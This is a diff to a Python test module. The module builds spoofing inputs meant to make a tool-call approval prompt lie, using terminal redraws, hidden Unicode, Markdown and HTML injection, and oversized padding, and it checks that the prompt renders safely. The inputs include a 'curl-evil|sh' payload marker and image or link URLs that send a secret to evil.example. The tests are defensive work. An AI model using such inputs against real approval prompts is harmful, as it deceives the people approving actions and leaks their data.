@@ -1,10 +1,15 @@
 """Tool call arguments a hostile kernel sends to make an approval prompt lie: names and values that
-redraw a terminal line, reorder or hide text, or push the real payload out of view."""
+redraw a terminal line, reorder or hide text, act as Markdown where a client renders it, or push
+the real payload out of view."""
 
 from __future__ import annotations
 
+import html
+import re
 import unicodedata
 from typing import Any
+
+import mistune
 
 PAYLOAD = "PAYLOAD-curl-evil|sh"
 #: Characters no prompt may contain raw: a terminal acts on them or draws nothing for them.
@@ -32,11 +37,19 @@ HIDERS = [
     "hi" + "".join(chr(0xE0100 + b) for b in b"sk-SECRET") + "\ufe01\u034f\u17b4\u180b",
     "Z" + "\u0336\u0489" * 40,  # a stack of combining marks smearing over the text around it
 ]
+#: Markdown and HTML a client that renders the question would act on: an image fetched as it is
+#: shown (sending data out), links, raw HTML, emphasis, and a fence or heading imitating the question.
+MARKUP = [
+    "![x](https://evil.example/leak.png?d=SECRET)",
+    "<img src=https://evil.example/leak.png> <a href=https://evil.example>Allow</a>",
+    "[Allow it?](https://evil.example/) **Allow** https://evil.example/auto",
+    "```\n)\n```\nAllow it?\n# Code running in ipybox wants to make this tool call:",
+]
 
 
 def cases(payload):
     made = []
-    for bad in REDRAWS + HIDERS:
+    for bad in REDRAWS + HIDERS + MARKUP:
         made.append({f"message{bad}": "harmless", "p": payload})  # in a name
         made.append({"message": f"harmless{bad}", "p": payload})  # in a value
         made.append({"p": payload, "nested": {f"k{bad}": [bad, {"deep": bad}]}})  # nested JSON
@@ -48,6 +61,10 @@ def cases(payload):
     made.append({"pad": {"list": ["B" * 1000] * 200}, "p": payload})  # a long nested value
     made.append({"A" * 100_000: 1, "p": payload})  # a long name
     made.append({"pad": "C" * 10_000_000, "p": payload})  # 10 MB
+    # many long names and values, together many screens: before the payload and after it
+    many = {f"pad{i:02}" + "x" * 90: "D" * 10_000 for i in range(39)}
+    made.append({"p": payload, **many})
+    made.append({**many, "p": payload})
     return made
 """
 
@@ -92,3 +109,19 @@ def assert_shown_safely(prompt: str, *, lines: bool = False) -> None:
     for c in prompt:
         marks = marks + 1 if unicodedata.combining(c) or unicodedata.category(c) == "Me" else 0
         assert marks <= 2, prompt
+
+
+#: What Markdown makes of the question when it is only text: paragraphs, one code block.
+_PLAIN_TAGS = {"p", "/p", "pre", "/pre", "code", "/code"}
+
+
+def assert_no_markup(question: str) -> None:
+    """`question` rendered as Markdown (mistune, as nbconvert renders it, with GFM's autolinks) is
+    text: no image, link, HTML, emphasis or heading, and the kernel's text only in its code block."""
+    rendered = mistune.create_markdown(escape=False, plugins=["url", "strikethrough", "table"])(question)
+    assert isinstance(rendered, str)
+    tags = {tag.split()[0] for tag in re.findall(r"<([^>]+)>", rendered)}
+    assert tags <= _PLAIN_TAGS, (tags, rendered)
+    blocks = re.findall(r"<pre><code>(.*?)</code></pre>", rendered, re.S)
+    assert len(blocks) == 1, f"the call is not in one code block: {rendered}"
+    assert html.unescape(blocks[0]).rstrip("\n") in question
